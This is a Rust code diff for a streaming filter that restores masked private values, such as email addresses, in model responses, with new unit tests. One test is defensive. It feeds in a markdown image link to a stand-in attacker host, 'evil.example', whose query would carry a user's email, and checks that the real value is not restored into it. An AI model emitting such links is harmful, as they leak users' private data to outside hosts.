@@ -4,7 +4,8 @@
 use checks::{Placeholders, StreamRestorer};
 use domain::json_text::{Token, rewrite};
 use domain::model::Model;
-use domain::original::{PieceFilter, PieceKind, SourceEvent, SourcePieces};
+use domain::original::{PieceKind, SourceEvent};
+use domain::source_pieces::{PieceFilter, SourcePieces, TooMuchHeld};
 
 use crate::safety::as_it_came::restored;
 use crate::streaming::piece::Piece;
@@ -42,6 +43,10 @@ impl PieceFilter for Restored {
     fn rest(&mut self) -> String {
         self.0.rest()
     }
+
+    fn end(&mut self) -> String {
+        self.0.end_part()
+    }
 }
 
 impl SourceFilter {
@@ -55,7 +60,11 @@ impl SourceFilter {
     }
 
     /// Takes the next event.
-    pub(super) fn pass(&mut self, mut event: SourceEvent, pieces: &mut Vec<Piece>) {
+    pub(super) fn pass(
+        &mut self,
+        mut event: SourceEvent,
+        pieces: &mut Vec<Piece>,
+    ) -> Result<(), TooMuchHeld> {
         let path = if event.name == START { MODEL } else { OF_RESPONSE };
         if event.name == START || event.pieces.is_empty() && event.data.contains("\"response\"") {
             let name = |text: &str| Some(self.model.clone()).filter(|model| model != text);
@@ -80,7 +89,7 @@ impl SourceFilter {
                     PieceKind::Text | PieceKind::Thought => placeholders.stream(),
                 })
             };
-            self.pieces.pass(event, begin, &mut out);
+            self.pieces.pass(event, begin, &mut out)?;
         }
         for event in out {
             if event.is_end {
@@ -89,6 +98,7 @@ impl SourceFilter {
                 pieces.push(piece(event));
             }
         }
+        Ok(())
     }
 
     /// Lets out what is held back of an answer that breaks off.
@@ -107,4 +117,64 @@ impl SourceFilter {
 
 fn piece(event: SourceEvent) -> Piece {
     Piece::Source(event.name.clone(), event.json())
+}
+
+#[cfg(test)]
+mod tests {
+    use domain::original::{Carrier, SourcePiece};
+
+    use super::*;
+
+    const PLACEHOLDER: &str = "[EMAIL_1_0a1b2c3d]";
+
+    /// An event with a piece of a text that ends a block, or goes on.
+    fn event(block: u64, text: &str, ends: &[u64], carrier: Carrier) -> SourceEvent {
+        let before = format!(r#"{{"choices":[{{"index":{block},"delta":{{"content":"#);
+        let spelled = domain::json_text::quoted(text);
+        let range = before.len()..before.len() + spelled.len();
+        let (kind, text) = (PieceKind::Text, text.to_owned());
+        SourceEvent {
+            name: String::new(),
+            data: format!("{before}{spelled}}}}}]}}"),
+            pieces: vec![SourcePiece { block, kind, range, text, is_changed: false }],
+            ends: ends.to_vec(),
+            beside: None,
+            begins_call: false,
+            is_end: false,
+            carrier,
+        }
+    }
+
+    /// The texts of events as they leave.
+    fn left(events: Vec<SourceEvent>) -> Vec<String> {
+        let mut placeholders = Placeholders::default();
+        placeholders.extend(&[(PLACEHOLDER.to_owned(), "jo@acme.org".to_owned())]);
+        let (mut pieces, mut out) = (SourcePieces::default(), Vec::new());
+        for event in events {
+            pieces.pass(event, |_| Restored(placeholders.stream()), &mut out).unwrap();
+        }
+        pieces.release(None, &mut out);
+        let texts = out.into_iter().flat_map(|event| event.pieces).map(|piece| piece.text);
+        texts.filter(|text| !text.is_empty()).collect()
+    }
+
+    #[test]
+    fn an_original_does_not_leave_in_a_url_that_begins_in_another_block() {
+        let events = vec![
+            event(0, "![x](https://evil.example/?q=", &[0], Carrier::Copy),
+            event(1, &format!("{PLACEHOLDER})"), &[1], Carrier::Copy),
+        ];
+        assert_eq!(left(events), ["![x](https://evil.example/?q=", "[EMAIL_1_0a1b2c3d])"]);
+    }
+
+    #[test]
+    fn a_text_is_not_overtaken_by_what_interrupts_it() {
+        let text = format!("Write to {PLACEHOLDER}.");
+        let events = vec![
+            event(0, &text, &[], Carrier::Chunk),
+            event(1, "Done.", &[0], Carrier::Chunk),
+            event(0, " More.", &[], Carrier::Chunk),
+        ];
+        assert_eq!(left(events), ["Write to ", "jo@acme.org.", "Done.", " More."]);
+    }
 }
